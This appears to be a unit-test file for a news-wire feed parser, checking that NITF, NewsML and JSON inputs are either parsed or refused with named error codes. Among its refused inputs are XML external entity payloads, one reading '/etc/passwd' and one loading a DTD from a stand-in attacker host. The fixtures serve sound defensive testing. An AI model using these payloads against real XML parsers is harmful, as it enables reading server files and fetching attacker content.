"""Whatever an agency sends is read or refused in a plain sentence."""

import contextlib
import json
import unicodedata
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feeds.markup import plain_text
from feeds.text import clean, one_line
from feeds.wire import reader
from feeds.wire.errors import WireError
from feeds.wire.reader import read_wire
from tests.unit.feeds.strategies import anything
from tests.unit.feeds.wire.samples import newsml, nitf


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (b"", "wire-empty"),
        (b"hello", "wire-unknown"),
        (b"<rss/>", "wire-unknown"),
        (b"{", "wire-broken"),
        (b'{"a":' * 100_000, "wire-broken"),
        (b"<nitf>", "wire-broken"),
        (b"<nitf>" + b"<p>" * 200 + b"</p>" * 200 + b"</nitf>", "wire-too-deep"),
        (b" " * (reader.MOST_BYTES + 1), "wire-too-large"),
        (nitf(data="").encode(), "wire-no-guid"),
        (newsml(attributes="").encode(), "wire-no-guid"),
        (b'<!DOCTYPE nitf [<!ENTITY a "b">]>' + nitf(content="<p>&a;</p>").encode(), "wire-hostile"),
        (b'<!DOCTYPE nitf [<!ENTITY a SYSTEM "file:///etc/passwd">]><nitf>&a;</nitf>', "wire-hostile"),
        (b'<!DOCTYPE nitf [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><nitf/>', "wire-hostile"),
        ('<!DOCTYPE nitf [<!ENTITY a "b">]><nitf/>'.encode("utf-16"), "wire-hostile"),
    ],
)
def test_what_cannot_be_taken_is_refused_by_name(document, code):
    with pytest.raises(WireError) as caught:
        read_wire(document, name="tin.xml")
    assert caught.value.code == code


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
@pytest.mark.parametrize("document", [newsml(), nitf(), '{"uri": "a", "type": "text", "headline": "Mường Tè"}'])
def test_the_format_and_the_encoding_are_decided_by_content(document, encoding):
    (item,) = read_wire(document.encode(encoding), name="tin.txt")
    assert item.title.startswith("Mường Tè")


@given(st.binary(max_size=300))
def test_any_bytes_are_items_or_a_wire_error(data):
    for document in (
        data,
        b"<nitf>" + data,
        newsml().encode().replace(b"<headline>", b"<headline>" + data),
        b'{"uri":"a",' + data,
    ):
        with contextlib.suppress(WireError):
            assert read_wire(document, name="a")


@given(anything, anything)
def test_any_title_and_text_survives_in_every_format(title, body):
    title, body = clean(title), clean(body)
    paragraph = f"<p>{escape(body)}</p>"
    html = f'<inlineXML><html xmlns="http://www.w3.org/1999/xhtml"><body>{paragraph}</body></html></inlineXML>'
    for document in (
        newsml(content=f"<headline>{escape(title)}</headline>", contents=html),
        nitf(content=paragraph).replace("Mường Tè", escape(title), 1),
    ):
        (item,) = read_wire(document.encode(), name="a")
        assert item.title == one_line(title)
        assert one_line(plain_text(item.body_html)) == one_line(body)
        assert unicodedata.is_normalized("NFC", item.body_html)
    (item,) = read_wire(json.dumps({"uri": "a", "headline": escape(title), "body_text": body}).encode(), name="a")
    assert item.title == one_line(title)
    assert plain_text(item.body_html) == one_line(body)


values = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | anything,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["uri", "name", "value", "role", "href", "type", "renditions", "associations", "bodies"]),
            inner,
        )
    ),
    max_leaves=15,
)


@given(
    st.dictionaries(
        st.sampled_from(
            [
                "version",
                "urgency",
                "headlines",
                "bodies",
                "subjects",
                "renditions",
                "associations",
                "pubstatus",
                "byline",
            ]
        ),
        values,
    )
)
def test_any_json_fields_make_an_item(fields):
    (item,) = read_wire(json.dumps(fields | {"uri": "a", "type": "text"}).encode(), name="a")
    assert item.guid == "a"
